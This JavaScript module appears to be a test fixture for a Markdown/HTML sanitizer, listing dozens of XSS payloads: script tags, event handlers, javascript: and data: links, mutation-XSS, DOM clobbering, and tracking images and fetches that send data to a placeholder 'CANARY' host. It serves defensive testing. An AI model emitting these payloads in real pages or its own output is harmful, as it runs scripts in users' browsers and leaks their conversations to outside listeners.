/**
 * What a hostile model or a hostile person may write. `CANARY` is the address of a listener that must
 * never hear of it; what runs sets `__ran`.
 */

const CANARY_MARK = "CANARY";

/** The payloads, with the address of the canary. */
export function payloads(canary) {
  return PAYLOADS.map((payload) => payload.replaceAll(CANARY_MARK, canary));
}

const PAYLOADS = [
  // Scripts.
  "<script>__ran = 1; fetch('CANARY/script')</script>",
  '<script src="CANARY/script.js"></script><script type="module">import "CANARY/module.js"; __ran = 1</script>',
  "<scr<script>ipt>__ran = 1</scr</script>ipt><SCRIPT/SRC=//x onload=__ran=1></SCRIPT>",
  // Handlers.
  "<img src=x onerror=\"__ran = 1; fetch('CANARY/onerror')\">",
  "<body onload=__ran=1><div onmouseover=__ran=1 onfocus=__ran=1 tabindex=0 autofocus>over</div>",
  "<details open ontoggle=__ran=1><summary>x</summary></details><marquee onstart=__ran=1>x</marquee>",
  "<input autofocus onfocus=__ran=1><select autofocus onfocus=__ran=1></select><video><source onerror=__ran=1></video>",
  '<div style="animation-name:x" onanimationstart=__ran=1>x</div><a href="#" onpointerrawupdate=__ran=1>x</a>',
  // Addresses that run or carry something.
  "[click](javascript:__ran=1) [click](JaVaScRiPt:__ran=1) [click](<javascript:__ran=1>) <javascript:__ran=1>",
  "[click](java&#x09;script:__ran=1) [click](&#106;avascript:__ran=1) [click](\u0001javascript:__ran=1) [click](javascript&colon;__ran=1)",
  "[click](data:text/html;base64,PHNjcmlwdD5fX3Jhbj0xPC9zY3JpcHQ+) [click](data:text/html,<script>__ran=1</script>)",
  "[click](vbscript:__ran=1) [click](file:///etc/passwd) [click](blob:CANARY/x) [click](view-source:CANARY) [click](chatkeep://x)",
  "[click]: javascript:__ran=1 'title'\n\n[click] and [other][click] and ![picture][click]",
  '<a href="javascript:__ran=1">x</a><a xlink:href="javascript:__ran=1">x</a><area href="javascript:__ran=1">',
  // Pictures and whatever else loads by itself.
  "![tracker](CANARY/image.png) ![tracker](//CANARY/x.png) ![](CANARY/empty?q=what+was+said)",
  "![reference][pixel] [![linked](CANARY/linked.png)](CANARY/target)\n\n[pixel]: CANARY/reference.png \"title\"",
  '<img src="CANARY/img.png" srcset="CANARY/srcset.png 2x"><picture><source srcset="CANARY/source.png"><img></picture>',
  '<video src="CANARY/video.mp4" poster="CANARY/poster.png" autoplay></video><audio src="CANARY/audio.mp3" autoplay></audio><track src="CANARY/track.vtt">',
  '<link rel="stylesheet" href="CANARY/style.css"><link rel="prefetch" href="CANARY/prefetch"><link rel="dns-prefetch" href="CANARY"><link rel="preload" as="image" href="CANARY/preload.png">',
  "<style>@import url(CANARY/import.css); body { background: url(CANARY/background.png) }</style>",
  '<div style="background-image: url(CANARY/inline.png); position: fixed; inset: 0; z-index: 9999">x</div><table background="CANARY/table.png"><td>x</td></table>',
  '<iframe src="CANARY/frame"></iframe><iframe srcdoc="<script>parent.__ran = 1</script>"></iframe><frameset><frame src="CANARY/frame"></frameset>',
  '<object data="CANARY/object"></object><embed src="CANARY/embed"><applet code="CANARY/applet"></applet><portal src="CANARY/portal"></portal>',
  '<meta http-equiv="refresh" content="0; url=CANARY/refresh"><base href="CANARY/"><meta http-equiv="Set-Cookie" content="a=b">',
  '<form action="CANARY/form" id="search"><input name="q"><button formaction="CANARY/formaction" autofocus>Sign in again</button></form><isindex action="CANARY/isindex">',
  '<a href="CANARY/ping" ping="CANARY/pinged">x</a><a href="CANARY/x" target="opener" rel="opener" download>x</a> <CANARY/autolink> CANARY/bare www.example.invalid',
  // SVG, MathML, and what changes its meaning when it is parsed again.
  "<svg onload=__ran=1><script>__ran = 1</script><animate onbegin=__ran=1 attributeName=x dur=1s></svg>",
  '<svg><a xlink:href="javascript:__ran=1"><text y="20">x</text></a><image href="CANARY/svg.png"/><use href="data:image/svg+xml,<svg id=x onload=__ran=1>#x"/></svg>',
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=__ran=1&gt;\"></table></mtext></math>",
  "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=__ran=1></style></annotation-xml><maction actiontype=\"statusline#CANARY\" xlink:href=\"javascript:__ran=1\">x</maction></math>",
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=__ran=1 src>\">",
  '<noscript><p title="</noscript><img src=x onerror=__ran=1>"><textarea><p title="</textarea><img src=x onerror=__ran=1>"><xmp><img alt="</xmp><img src=x onerror=__ran=1>">',
  "<template><img src=x onerror=__ran=1></template><template shadowrootmode=open><img src=CANARY/shadow.png></template><!--><img src=x onerror=__ran=1>--><![CDATA[<img src=x onerror=__ran=1>]]>",
  // Names that take the place of what scripts look for.
  '<img name=getElementById><a id=location href="CANARY/clobbered">x</a><form name=cookie id=attributes><input name=parentNode><input id=nodeName></form><a id="trustedTypes"></a><a id="trustedTypes" name="emptyHTML"></a>',
  // Entities.
  "&lt;script&gt;__ran = 1&lt;/script&gt; &amp;lt;img src=x onerror=__ran=1&amp;gt; &#60;img src=x onerror=__ran=1&#62; &#x3c;svg onload=__ran=1&#x3e;",
  // Markdown's own seams.
  '```html"><img src=x onerror=__ran=1>\n<script>__ran = 1</script>\n``` \n~~~"onmouseover=__ran=1\n</code></pre><img src=x onerror=__ran=1>\n~~~\n`` `<img src=x onerror=__ran=1>` ``',
  '[x](CANARY/a "\\" onmouseover=__ran=1 x=\\"") ![a" onerror="__ran=1](x "t\' onerror=\'__ran=1") [a](<CANARY/"onfocus="__ran=1"autofocus=">)',
  "| a <img src=x onerror=__ran=1> | b |\n|---|:--\"onclick=__ran=1|\n| `<script>__ran=1</script>` | [x](javascript:__ran=1) |\n\n- [ ] <img src=x onerror=__ran=1>\n- [x] ![x](CANARY/task.png)\n\n> # <svg onload=__ran=1>",
  // Unicode.
  "\u202e<script>__ran=1</script>\u202c \ufeff<img src=x onerror=__ran=1> ＜script＞__ran=1＜/script＞ <\u0130mg src=x onerror=__ran=1> <ſcript>__ran=1</ſcript> \u2028<img\u2028src=x\u00a0onerror=__ran=1>",
  // Cut short: nothing is closed.
  '**bold <b><i><u><img src="CANARY/dangling?',
];
